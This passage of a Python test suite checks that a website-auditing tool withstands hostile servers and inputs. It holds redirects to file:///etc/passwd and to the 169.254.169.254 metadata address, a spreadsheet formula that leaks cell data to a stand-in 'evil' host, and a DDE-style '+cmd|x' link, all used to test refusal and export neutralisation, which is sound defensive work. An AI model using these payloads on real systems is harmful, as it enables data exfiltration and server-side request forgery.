"""The fault matrix: siteaudit audited against hostile servers, hostile pages and hostile inputs on 127.0.0.1.

One row per fault, in two tables:
- SERVER_CASES: hostile sites (local-file and javascript redirects, internal addresses, endless and trickled
  bodies, sitemap bombs, robots.txt 5xx, cut-short bodies, deep HTML, calendar traps). Each row starts its
  routes, runs the CLI and checks the exit code, that the outputs were written, the finding or stored record,
  and where the fault is about memory or hanging, the audit's peak memory and wall time.
- INPUT_CASES: hostile inputs and outputs (spreadsheet formulas, control characters, failing alerts, unreadable
  PDFs, a failing check, IDN and default ports, bad config values, credentials in URLs, racing resumes). Each
  row asserts the exit code, the one-line error (or what was written), that a refused config leaves nothing
  behind, and the finding or stored record the fault must give.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import socket
import sqlite3
import struct
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from conftest import judged_clean, run_cli, write_config
from siteaudit.core.config import ConfigError, from_dict
from siteaudit.core.fetchpolicy import address_class, refusal, site_classes
from siteaudit.demo.server import SiteServer, redirect, send

HTML = "text/html; charset=utf-8"


def server_page(title: str, body: str = "") -> bytes:
    return f"<html><head><title>{title}</title></head><body>{body}</body></html>".encode()


# -- hostile routes -----------------------------------------------------------------------------------------
def endless(handler: Any) -> None:
    """200 with a body that never ends (no length, the connection stays open)."""
    handler.send_response(200)
    handler.send_header("Content-Type", HTML)
    handler.end_headers()
    block = b"<p>" + b"x" * 65532 + b"</p>"
    try:
        while True:
            handler.wfile.write(block)
    except OSError:
        handler.close_connection = True


def trickle(handler: Any) -> None:
    """A long body sent one byte a second."""
    handler.send_response(200)
    handler.send_header("Content-Type", HTML)
    handler.send_header("Content-Length", "100000")
    handler.end_headers()
    try:
        for _ in range(120):
            handler.wfile.write(b"x")
            handler.wfile.flush()
            time.sleep(1)
    except OSError:
        pass
    handler.close_connection = True


def short_body(handler: Any) -> None:
    """Content-Length promises more than is sent, then the connection closes."""
    body = server_page("短少", '<a href="/after-loss.html">後續</a>')
    handler.send_response(200)
    handler.send_header("Content-Type", HTML)
    handler.send_header("Content-Length", str(len(body) + 5000))
    handler.end_headers()
    handler.wfile.write(body)
    handler.wfile.flush()
    handler.close_connection = True


def reset_mid_body(handler: Any) -> None:
    """Half a body, then a TCP reset."""
    body = server_page("重設", "x" * 2000)
    handler.send_response(200)
    handler.send_header("Content-Type", HTML)
    handler.send_header("Content-Length", str(len(body) * 2))
    handler.end_headers()
    handler.wfile.write(body)
    handler.wfile.flush()
    handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    handler.connection.close()
    handler.close_connection = True


def broken_chunked(handler: Any) -> None:
    """A chunked body whose second chunk header is garbage."""
    handler.send_response(200)
    handler.send_header("Content-Type", HTML)
    handler.send_header("Transfer-Encoding", "chunked")
    handler.end_headers()
    first = server_page("分塊", "ok")
    handler.wfile.write(b"%x\r\n%s\r\nzz-not-a-size\r\n" % (len(first), first))
    handler.wfile.flush()
    handler.close_connection = True


def calendar(handler: Any) -> None:
    """A calendar whose every day links the next one."""
    from datetime import date, timedelta
    from urllib.parse import parse_qs, urlsplit

    day = date.fromisoformat(parse_qs(urlsplit(handler.path).query)["d"][0])
    send(handler, 200, server_page(f"行事曆 {day}", f'<a href="/cal?d={day + timedelta(days=1)}">下一天</a>'))


def sitemap_bomb(handler: Any) -> None:
    """Every sitemap index lists five more."""
    n = int(handler.path.rsplit("/", 1)[-1].split(".")[0])
    base = f"http://{handler.headers['Host']}"
    kids = "".join(f"<sitemap><loc>{base}/sm/{5 * n + k}.xml</loc></sitemap>" for k in range(1, 6))
    send(handler, 200, f'<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                       f"{kids}</sitemapindex>".encode(), content_type="application/xml")


def robots(text: str) -> Callable[[Any], None]:
    return lambda h: send(h, 200, text.encode(), content_type="text/plain")


# -- the matrix ---------------------------------------------------------------------------------------------
@dataclass
class ServerCase:
    id: str
    home: str                                     # body of the home page
    routes: Callable[[str], dict[str, Any]]       # base URL -> routes
    exit_codes: tuple[int, ...] = (0, 1)
    outputs: bool = True                          # findings.json written
    crawl: dict[str, Any] = field(default_factory=dict)
    checks: str = "links"
    extra: str = ""
    expect: Callable[[dict[str, Any], dict[str, Any]], None] = lambda ctx, doc: None
    max_seconds: float = 60
    max_rss_mb: float = 600


def finding(doc: dict[str, Any], rule: str, url_end: str, reason: str = "") -> dict[str, Any]:
    hits = [f for f in doc["findings"] if f["rule"] == rule and f["url"].endswith(url_end)
            and reason in json.dumps(f["evidence"], ensure_ascii=False)]
    assert hits, f"no {rule} for …{url_end} ({reason}): {[(f['rule'], f['url']) for f in doc['findings']]}"
    return hits[0]


def assert_status(doc: dict[str, Any], check: str, *allowed: str) -> None:
    assert doc["summary"][check]["status"] in allowed, doc["summary"][check]


def rows(ctx: dict[str, Any], table: str = "pages") -> dict[str, sqlite3.Row]:
    db = sqlite3.connect(ctx["store"])
    db.row_factory = sqlite3.Row
    return {r["url"]: r for r in db.execute(f"SELECT * FROM {table}")}


def no_local_file_read(ctx: dict[str, Any]) -> None:
    for table in ("pages", "resources"):
        for url, row in rows(ctx, table).items():
            assert not (url.startswith("file:") and row["status"]), url


def expect_file_redirects(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    finding(doc, "broken-link", "/go-file", "file: URL")
    finding(doc, "broken-link", f"localhost:{ctx['port']}/ext-file", "file: URL")
    no_local_file_read(ctx)


def expect_dev_zero(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    finding(doc, "broken-link", "/zero", "file: URL")
    no_local_file_read(ctx)


def expect_javascript(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    finding(doc, "broken-link", "/go-js", "javascript:")
    assert rows(ctx)[ctx["base"] + "/go-js"]["status"] == 302


def expect_internal_addresses(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    finding(doc, "broken-link", "/go-metadata", "link-local address 169.254.169.254")
    finding(doc, "broken-link", "10.0.0.1/", "private address 10.0.0.1")
    assert rows(ctx)[ctx["base"] + "/ok.html"]["status"] == 200  # loopback, the site's own class, is fetched


def expect_search_bounded(why: str) -> Callable[[dict[str, Any], dict[str, Any]], None]:
    def check(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
        finding(doc, "search-broken", "q=%E6%B0%B4", why)
    return check


def expect_robots_5xx(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    assert "robots.txt answered HTTP 500" in ctx["stderr"] and len(ctx["stderr"].strip().splitlines()) == 1
    assert not any(path == "/" for _, path in ctx["server"].requests)


def expect_robots_4xx(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    assert rows(ctx)[ctx["base"] + "/"]["status"] == 200


def expect_sitemap_cut(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    fetched = [p for _, p in ctx["server"].requests if p.startswith("/sm/")]
    assert 0 < len(fetched) <= 10
    assert rows(ctx)[ctx["base"] + "/a.html"]["status"] == 200
    assert "crawl.max_sitemaps" in ctx["stderr"]


def expect_truncated(path: str) -> Callable[[dict[str, Any], dict[str, Any]], None]:
    def check(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
        row = rows(ctx)[ctx["base"] + path]
        assert row["verdict"] != "ok" or row["truncated"] == 1, dict(row)
        assert any(f["url"].endswith(path) and f["rule"] in ("incomplete-response", "broken-link")
                   for f in doc["findings"]), doc["findings"]
    return check


def expect_short_body(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    row = rows(ctx)[ctx["base"] + "/short"]
    assert row["truncated"] == 1 and row["verdict"] == "ok"
    finding(doc, "incomplete-response", "/short")


def expect_deep_link(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    assert rows(ctx)[ctx["base"] + "/deep.html"]["status"] == 200  # the link under 400 levels was read
    finding(doc, "incomplete-response", "/deep.html", "not fully parsed")  # 3000 levels: past the parser


def expect_calendar_cut(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    cal = {u: r for u, r in rows(ctx).items() if "/cal?" in u}
    assert any(r["error"] == "trap:growing-parameter" for r in cal.values())
    assert len(cal) <= 15


def expect_no_none_share(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    assert doc["summary"]["freshness"]["within_limit_share"] is None
    report = (ctx["out"] / "report.html").read_text(encoding="utf-8")
    assert "None%" not in report and "無（沒有頁面標示日期）" in report
    assert "<th>有日期頁面中在期限內</th><td>—</td>" in report


def expect_resume_reads_sitemap(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    got = rows(ctx)
    assert got[ctx["base"] + "/orphan.html"]["status"] == 200
    assert got[ctx["base"] + "/orphan.html"]["found_on"].endswith("/sitemap.xml")


SEARCH_HOME = '<form action="/search" role="search"><input name="q"></form><a href="/ok.html">正常</a>'
NETWORK = "[checks.essentials]\nnetwork = true\n"

MALFORMED_HREFS = ("http://host]/", "http://[::1/x", "http://127.0.0.1:99999/", "http://h%zz/")


def expect_malformed_hrefs(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    """Each malformed href is one finding on its page; the links check still judges every other link."""
    assert doc["summary"]["links"]["status"] == "fail", doc["summary"]["links"]
    for raw in MALFORMED_HREFS:
        hit = [f for f in doc["findings"] if f["rule"] == "invalid-href" and f["url"] == raw]
        assert len(hit) == 1 and hit[0]["evidence"]["href"] == raw and hit[0]["pages"] == [ctx["base"] + "/"], raw
    finding(doc, "broken-link", "/missing.html")


def expect_budget_not_checked(ctx: dict[str, Any], doc: dict[str, Any]) -> None:
    """3 pages fetched (home and 2 of 6 linked): the other 4 linked pages are not checked, and the report says so."""
    links = doc["summary"]["links"]
    assert (links["targets_checked"], links["not_checked"]) == (2, 4), links
    measured = next(i for i in doc["inspection"] if i["id"] == "links")["measured_zh"]
    assert "4 個網址超出頁數或深度上限未檢查" in measured, measured
    assert "超出頁數或深度上限" in (ctx["out"] / "report.html").read_text(encoding="utf-8")


SERVER_CASES = [
    ServerCase("malformed-hrefs-are-findings-not-a-failed-check",
         "".join(f'<a href="{h}">壞</a>' for h in MALFORMED_HREFS) + '<a href="/missing.html">不見</a>',
         lambda base: {}, exit_codes=(1,), expect=expect_malformed_hrefs),
    ServerCase("redirect-to-a-malformed-url", '<a href="/go-bad">轉址</a><a href="/go-port">埠</a>',
         lambda base: {"/go-bad": redirect("http://host]/", 302), "/go-port": redirect("http://127.0.0.1:99999/x", 301)},
         exit_codes=(1,), expect=lambda ctx, doc: (finding(doc, "broken-link", "/go-bad", "malformed address"),
                                                   finding(doc, "broken-link", "/go-port", "port not a number"))),
    ServerCase("redirect-to-file-scheme",
         '<a href="/go-file">內部</a><a href="http://localhost:{port}/ext-file">外部</a>',
         lambda base: {"/go-file": redirect("file:///etc/passwd", 302), "/ext-file": redirect("file:///etc/passwd")},
         expect=expect_file_redirects),
    ServerCase("redirect-to-dev-zero", '<a href="/zero">零</a>', lambda base: {"/zero": redirect("file:///dev/zero", 302)},
         expect=expect_dev_zero, max_seconds=40, max_rss_mb=600),
    ServerCase("redirect-to-javascript", '<a href="/go-js">腳本</a>', lambda base: {"/go-js": redirect("javascript:x", 302)},
         expect=expect_javascript),
    ServerCase("internal-addresses-refused",
         '<a href="/go-metadata">中繼資料</a><a href="http://10.0.0.1/">內網</a><a href="/ok.html">正常</a>',
         lambda base: {"/go-metadata": redirect("http://169.254.169.254/latest/meta-data/", 302)},
         expect=expect_internal_addresses),
    ServerCase("search-results-endless", SEARCH_HOME, lambda base: {"/search": endless},
         checks="essentials", crawl={"max_page_bytes": 2_000_000}, extra=NETWORK,
         expect=expect_search_bounded("larger than"), max_seconds=60, max_rss_mb=600),
    ServerCase("search-results-trickled", SEARCH_HOME, lambda base: {"/search": trickle},
         checks="essentials", crawl={"download_timeout": 2}, extra=NETWORK,
         expect=expect_search_bounded("within 2 s"), max_seconds=45),
    ServerCase("robots-5xx-disallows-all", '<a href="/ok.html">正常</a>',
         lambda base: {"/robots.txt": lambda h: send(h, 500, b"oops")}, exit_codes=(3,), outputs=False,
         crawl={"retries": 0}, expect=expect_robots_5xx),
    ServerCase("robots-4xx-allows-all", '<a href="/ok.html">正常</a>',
         lambda base: {"/robots.txt": lambda h: send(h, 404, b"none")}, expect=expect_robots_4xx),
    ServerCase("sitemap-bomb", '<a href="/a.html">甲</a>',
         lambda base: {"/robots.txt": robots(f"User-agent: *\nSitemap: {base}/sm/0.xml\n"),
                       **{f"/sm/{n}.xml": sitemap_bomb for n in range(2000)}},
         crawl={"sitemaps": True, "max_sitemaps": 10, "max_sitemap_depth": 3}, expect=expect_sitemap_cut,
         max_seconds=40),
    ServerCase("body-cut-short", '<a href="/short">短</a>', lambda base: {"/short": short_body},
         crawl={"retries": 0}, expect=expect_short_body),
    ServerCase("connection-reset-mid-body", '<a href="/reset">重設</a>', lambda base: {"/reset": reset_mid_body},
         crawl={"retries": 0}, expect=expect_truncated("/reset")),
    ServerCase("broken-chunked-body", '<a href="/chunked">分塊</a>', lambda base: {"/chunked": broken_chunked},
         crawl={"retries": 0}, expect=expect_truncated("/chunked")),
    ServerCase("html-deeper-than-255", "<div>" * 400 + '<a href="/deep.html">深處</a>' + "</div>" * 400,
         lambda base: {"/deep.html": lambda h: send(h, 200, server_page("深處", "<div>" * 3000 + "底" + "</div>" * 3000))},
         expect=expect_deep_link),
    ServerCase("calendar-trap-default-limits", '<a href="/cal?d=2026-11-26">行事曆</a>',
         lambda base: {"/cal": calendar}, expect=expect_calendar_cut, max_seconds=60),
    ServerCase("last-modified-past-year-9999", '<a href="/ok.html">正常</a><a href="/far.html">遠</a>',
         lambda base: {"/far.html": lambda h: send(h, 200, server_page("遠", "x"), {
             "Last-Modified": "Mon, 01 Jan 99999999999 00:00:00 GMT"})},
         checks="links,freshness", expect=lambda ctx, doc: (
             assert_status(doc, "freshness", "pass", "fail"), finding(doc, "no-displayed-date", ""))),
    ServerCase("max-pages-reached-links-not-counted-as-checked",
         "".join(f'<a href="/n{i}.html">第{i}頁</a>' for i in range(6)),
         lambda base: {f"/n{i}.html": lambda h: send(h, 200, server_page("頁", "x")) for i in range(6)},
         crawl={"max_pages": 3}, exit_codes=(1,), expect=expect_budget_not_checked),
    ServerCase("freshness-without-dates", '<a href="/ok.html">正常</a>',
         lambda base: {"/": lambda h: send(h, 200, server_page("首頁", '<a href="/ok.html">正常</a>')),
                       "/ok.html": lambda h: send(h, 200, server_page("正常", "ok"))},
         checks="freshness", expect=expect_no_none_share),
]


def run_measured(args: list[str], timeout: float) -> tuple[int, str, float, float]:
    """Run the CLI as run_cli does; return (exit code, stderr, seconds, peak RSS in MB) of that process alone."""
    env = dict(os.environ)
    started = time.monotonic()
    proc = subprocess.Popen([sys.executable, "-m", "siteaudit", *args], stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, text=True, env=env, cwd=Path.cwd())
    err: list[str] = []
    reader = threading.Thread(target=lambda: err.append(proc.stderr.read()), daemon=True)
    reader.start()
    timer = threading.Timer(timeout, proc.kill)
    timer.start()
    try:
        _, status, usage = os.wait4(proc.pid, 0)
    finally:
        timer.cancel()
    proc.returncode = os.waitstatus_to_exitcode(status)
    reader.join(5)
    return proc.returncode, "".join(err), time.monotonic() - started, usage.ru_maxrss / 1024


@pytest.mark.parametrize("case", SERVER_CASES, ids=[c.id for c in SERVER_CASES])
def test_hostile_server(case: ServerCase, serve, tmp_path: Path) -> None:
    server = serve(tmp_path, {})
    base = server.base
    server.routes.update(case.routes(base))
    (tmp_path / "index.html").write_text(server_page("首頁", case.home.replace("{port}", str(server.port))).decode(),
                                         encoding="utf-8")
    (tmp_path / "ok.html").write_text(server_page("正常", "ok").decode(), encoding="utf-8")
    for name in ("a.html", "after-loss.html"):
        (tmp_path / name).write_text(server_page(name, "ok").decode(), encoding="utf-8")
    store, out = tmp_path / "s.sqlite3", tmp_path / "out"
    cfg = write_config(tmp_path / "c.toml", base, store, crawl={"sitemaps": False, "download_timeout": 5,
                                                               **case.crawl}, extra=case.extra)
    code, stderr, seconds, rss = run_measured(["audit", "--config", str(cfg), "--checks", case.checks,
                                               "--out", str(out)], timeout=case.max_seconds + 30)
    assert code in case.exit_codes, stderr
    assert "Traceback" not in stderr
    assert seconds < case.max_seconds, f"{seconds:.0f} s"
    assert rss < case.max_rss_mb, f"{rss:.0f} MB"
    doc: dict[str, Any] = {}
    assert (out / "findings.json").exists() == case.outputs, stderr
    if case.outputs:
        doc = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    case.expect({"base": base, "port": server.port, "store": store, "out": out, "stderr": stderr,
                 "server": server}, doc)


def test_resume_reads_the_sitemaps_again(serve, tmp_path: Path) -> None:
    """Killed while the sitemap was still downloading, the resumed run still finds the page only it lists."""
    gate = threading.Event()

    def slow_sitemap(handler: Any) -> None:
        gate.wait(30)
        send(handler, 200, f'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                           f"<url><loc>{server.base}/orphan.html</loc></url></urlset>".encode(),
             content_type="application/xml")

    server = serve(tmp_path, {"/sitemap.xml": slow_sitemap})
    (tmp_path / "index.html").write_text(server_page("首頁", '<a href="/ok.html">正常</a>').decode(), encoding="utf-8")
    for name in ("ok.html", "orphan.html"):
        (tmp_path / name).write_text(server_page(name, "ok").decode(), encoding="utf-8")
    store = tmp_path / "s.sqlite3"
    cfg = write_config(tmp_path / "c.toml", server.base, store, crawl={"sitemaps": True, "download_timeout": 30})
    args = [sys.executable, "-m", "siteaudit", "audit", "--config", str(cfg), "--checks", "links"]
    proc = subprocess.Popen([*args, "--out", str(tmp_path / "o1")], cwd=Path.cwd(), stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 30
    stored = 0
    while time.monotonic() < deadline and stored < 2:
        time.sleep(0.2)
        try:
            stored = sqlite3.connect(store).execute("SELECT COUNT(*) FROM pages").fetchone()[0]
        except sqlite3.OperationalError:
            stored = 0
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert stored >= 2 and ("GET", "/sitemap.xml") in server.requests
    gate.set()
    code, stderr, seconds, _ = run_measured([*args[3:], "--resume", "--out", str(tmp_path / "o2")], timeout=60)
    assert code in (0, 1), stderr
    assert (tmp_path / "o2" / "findings.json").exists()
    expect_resume_reads_sitemap({"base": server.base, "store": store}, {})


@pytest.mark.parametrize("host, cls", [("127.0.0.1", "loopback"), ("2852039166", "link-local"),
                                       ("[::ffff:10.1.2.3]", "private"), ("0x7f.1", "loopback"),
                                       ("www.water.gov.tw", None), ("8.8.8.8", None)])
def test_address_classes(host: str, cls: str | None) -> None:
    assert address_class(host) == cls


def test_a_public_site_never_reaches_internal_addresses() -> None:
    public = site_classes(["8.8.8.8"])
    assert public == frozenset()
    for url in ("http://127.0.0.1/", "http://169.254.169.254/latest/", "http://192.168.1.1/", "http://localhost/"):
        assert refusal(url, public), url
    assert refusal("https://www.water.gov.tw/", public) is None
    assert "file:" in refusal("file:///etc/passwd", public)
    loopback = site_classes(["127.0.0.1:8080"])
    assert refusal("http://127.0.0.1:9/", loopback) is None and refusal("http://169.254.169.254/", loopback)


# == hostile inputs ========================================================================================
FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
SECRET = "hunter2secret"
OUTPUTS = ("report.html", "findings.json", "findings.csv", "findings.ods")


@dataclass
class Run:
    """What one case did: the CLI's result and where it could have left things."""

    result: subprocess.CompletedProcess[str]
    root: Path
    store: Path
    out: Path


@dataclass
class InputCase:
    id: str
    act: Callable[[Path, Callable[..., SiteServer]], Run]
    code: int
    error: tuple[str, ...] = ()        # words of the one-line error on stderr; () when stderr may be empty
    refused: bool = False              # a config error: no run row, no output folder
    outputs: bool = False              # the audit's outputs were written
    expect: Callable[[Run], None] | None = None


# -- fixture sites -------------------------------------------------------------------------------------------

def input_page(body: str, head: str = "") -> bytes:
    return (f'<!doctype html><html lang="zh-Hant"><head><meta charset="utf-8"><title>測試</title>{head}</head>'
            f"<body><h1>測試</h1>{body}</body></html>").encode()


def site(tmp: Path, serve: Callable[..., SiteServer], files: dict[str, bytes],
         routes: dict[str, Any] | None = None) -> SiteServer:
    root = tmp / "site"
    root.mkdir(exist_ok=True)
    for rel, data in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    return serve(root, routes or {})


def audit(tmp: Path, base: str, checks: str = "links", extra: str = "", site_keys: dict | None = None,
          crawl: dict | None = None, args: tuple[str, ...] = ()) -> Run:
    store, out = tmp / "s.sqlite3", tmp / "out"
    cfg = write_config(tmp / "c.toml", base, store, crawl={"sitemaps": False, **(crawl or {})},
                       site=site_keys, extra=extra)
    result = run_cli("audit", "--config", str(cfg), "--checks", checks, "--out", str(out), *args)
    return Run(result, tmp, store, out)


def refused_audit(*, extra: str = "", crawl: dict | None = None, url: str | None = None,
                  config_text: bytes | None = None, out: Path | None = None) -> Callable[..., Run]:
    """An audit of an unreachable loopback site whose config (or URL) must be refused before anything runs."""
    def act(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
        store = tmp / "s.sqlite3"
        cfg = write_config(tmp / "c.toml", "http://127.0.0.1:9", store, crawl=crawl, extra=extra)
        if config_text is not None:
            cfg.write_bytes(config_text)
        target = out or tmp / "out"
        result = run_cli("audit", *([url] if url else []), "--config", str(cfg), "--out", str(target))
        return Run(result, tmp, store, tmp / "out")
    return act


def findings(run: Run) -> list[dict[str, Any]]:
    return json.loads((run.out / "findings.json").read_text(encoding="utf-8"))["findings"]


def ods_cells(path: Path) -> list[str]:
    """Every cell text of an ODS file, read by an XML parser (a control character would make it fail)."""
    with zipfile.ZipFile(path) as z:
        content = z.read("content.xml")
    tree = ElementTree.fromstring(content)
    text_ns = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
    table_ns = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    return ["\n".join("".join(p.itertext()) for p in cell.iter(f"{text_ns}p"))
            for cell in tree.iter(f"{table_ns}table-cell")]


def no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# -- 3 and 4: what the exports neutralise ----------------------------------------------------------------------

HOSTILE = {
    "index.html": input_page(f"<a href='{FORMULA}'>x</a> <a href='/a\x0cb\x01c.html'>ctl</a> <a href='+cmd|x'>plus</a>",
                       head='<meta name="DC.Title" content="標題\x0c">'),
}


def hostile_audit(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    return audit(tmp, site(tmp, serve, HOSTILE).base, checks="links,metadata")


def csv_is_neutralised(run: Run) -> None:
    text = (run.out / "findings.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert all(len(r) == len(rows[0]) for r in rows)
    cells = [c for r in rows for c in r]
    no_formula(cells)
    assert "'" + FORMULA in cells


def ods_is_valid_and_neutralised(run: Run) -> None:
    from odf.opendocument import load

    load(str(run.out / "findings.ods"))  # odfpy reads it too
    cells = ods_cells(run.out / "findings.ods")
    no_formula(cells)
    assert "'" + FORMULA in cells
    assert any("/a\ufffdb\ufffdc.html" in c for c in cells)  # control characters became U+FFFD
    assert not any("\x01" in c or "\x0c" in c for c in cells)


def uptime_note(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    store = tmp / "s.sqlite3"
    cfg = write_config(tmp / "c.toml", "http://127.0.0.1:9", store)
    noted = run_cli("uptime", "note", "--config", str(cfg), "--date", "2026-11-05", "--by", "@admin",
                    "--text", "=1+2\x0c")
    assert noted.returncode == 0, noted.stderr
    out = tmp / "log.csv"
    result = run_cli("uptime-log", "--config", str(cfg), "--month", "2026-11", "--format", "csv", "--out", str(out))
    return Run(result, tmp, store, out)


def uptime_csv_is_neutralised(run: Run) -> None:
    rows = list(csv.reader(io.StringIO(run.out.read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows for c in r]
    no_formula(cells)
    assert "'=1+2\ufffd" in cells and "'@admin" in cells


# -- 6: alerts and the probe's read limits --------------------------------------------------------------------

def uptime(path: str, uptime_keys: str, env: dict[str, str] | None = None) -> Callable[..., Run]:
    def act(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
        server = site(tmp, serve, {"index.html": input_page("ok")}, {"/endless": endless, "/trickle": trickle})
        store = tmp / "s.sqlite3"
        keys = uptime_keys.replace("FLAG", str(tmp / "alerted.txt"))
        cfg = write_config(tmp / "c.toml", server.base, store,
                           extra=f'[uptime]\nurls = ["{server.base}{path}"]\ntries = 1\nkeyword = "測試"\n{keys}')
        started = time.monotonic()
        result = run_cli("uptime", "--config", str(cfg), env=env)
        assert time.monotonic() - started < 30
        return Run(result, tmp, store, tmp / "alerted.txt")
    return act


def stored(run: Run, sql: str) -> list[tuple[Any, ...]]:
    return sqlite3.connect(run.store).execute(sql).fetchall()


def mail_failure_is_stored(run: Run) -> None:
    assert stored(run, "SELECT channel, ok FROM uptime_alerts") == [("mail", 0)]
    assert len(run.result.stderr.strip().splitlines()) == 1
    assert "結果: 異常" in run.result.stdout


def probe_cut(reason: str) -> Callable[[Run], None]:
    def expect(run: Run) -> None:
        rows = stored(run, "SELECT ok, reason FROM uptime_probes")
        assert len(rows) == 1 and rows[0][0] == 0 and reason in rows[0][1], rows
        assert reason in run.out.read_text(encoding="utf-8")  # the alert command got the summary
        assert stored(run, "SELECT channel, ok FROM uptime_alerts") == [("command", 1)]
    return expect


def command_env_has_no_password(run: Run) -> None:
    env = run.out.read_text(encoding="utf-8")
    assert "SITEAUDIT_UPTIME=" in env and SECRET not in env and "SA_SMTP_PASSWORD" not in env


# -- 7: a PDF pypdf cannot read, and a check that raises -------------------------------------------------------

def deep_pdf(depth: int = 101, pad: int = 240_000) -> bytes:
    """A PDF whose page tree is `depth` /Pages nodes deep (pypdf stops at 100), padded to ~247 KB."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for i in range(depth):
        parent = f"/Parent {i + 1} 0 R " if i else ""
        objs.append(f"<< /Type /Pages {parent}/Kids [{i + 3} 0 R] /Count 1 >>".encode())
    objs.append(f"<< /Type /Page /Parent {depth + 1} 0 R /MediaBox [0 0 612 792] /Contents {depth + 3} 0 R >>"
                .encode())
    stream = b"BT /F1 12 Tf 72 712 Td (Hello) Tj ET\n" + b"%" * pad + b"\n"
    objs.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    out = io.BytesIO(b"%PDF-1.4\n")
    out.seek(0, 2)
    offsets = []
    for n, obj in enumerate(objs, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % o for o in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref))
    return out.getvalue()


def pdf_audit(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    server = site(tmp, serve, {"index.html": input_page('<a href="deep.pdf">報告（PDF）</a>'), "deep.pdf": deep_pdf()})
    return audit(tmp, server.base, checks="documents,links")


def pdf_is_a_finding(run: Run) -> None:
    found = [f for f in findings(run) if f["rule"] == "pdf-unreadable"]
    assert len(found) == 1 and "LimitReachedError" in found[0]["message"] and found[0]["url"].endswith("deep.pdf")
    assert stored(run, "SELECT status FROM runs") == [("complete",)]


def raising_check(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    """The metadata check raises (a bug); the links check and every output must go on."""
    server = site(tmp, serve, {"index.html": input_page('<a href="/gone.html">gone</a>')})
    store, out = tmp / "s.sqlite3", tmp / "out"
    cfg = write_config(tmp / "c.toml", server.base, store, crawl={"sitemaps": False})
    code = ("import sys\nimport siteaudit.checks.metadata as m\n"
            "def boom(ctx):\n    raise RuntimeError('boom in metadata')\n"
            "m.CHECK.run = boom\n"
            "from siteaudit.cli import main\n"
            f"sys.exit(main(['audit', '--config', {str(cfg)!r}, '--checks', 'metadata,links', '--out', {str(out)!r}]))")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, cwd=tmp)
    return Run(result, tmp, store, out)


def check_error_is_its_status(run: Run) -> None:
    summary = json.loads((run.out / "findings.json").read_text(encoding="utf-8"))["summary"]
    assert summary["metadata"]["status"] == "error" and "boom in metadata" in summary["metadata"]["reason"]
    assert summary["links"]["status"] == "fail"
    assert any(f["rule"] == "broken-link" for f in findings(run))
    assert stored(run, "SELECT status FROM runs") == [("complete",)]
    assert "檢查失敗" in (run.out / "report.html").read_text(encoding="utf-8")


# -- 11: IDN and default ports --------------------------------------------------------------------------------

def default_port_hosts(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    server = site(tmp, serve, {"index.html": input_page('<a href="/a.html">a</a>'), "a.html": input_page('<a href="/b.html">b</a>'),
                               "b.html": input_page("b")})
    base = server.base.replace("http://", "HTTP://")
    return audit(tmp, base, site_keys={"allowed_hosts": ["127.0.0.1:80", "WWW.EXAMPLE.GOV.TW:443"]})


def every_page_is_crawled(run: Run) -> None:
    assert json.loads((run.out / "findings.json").read_text(encoding="utf-8"))["pages"] == 3
    config = json.loads(stored(run, "SELECT config FROM runs")[0][0])
    assert config["site"]["allowed_hosts"] == ["127.0.0.1", "www.example.gov.tw"]


# -- 12: bad values, refused before anything is crawled -------------------------------------------------------

def runs_without_store(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    store = tmp / "none" / "s.sqlite3"
    result = run_cli("runs", "--store", str(store))
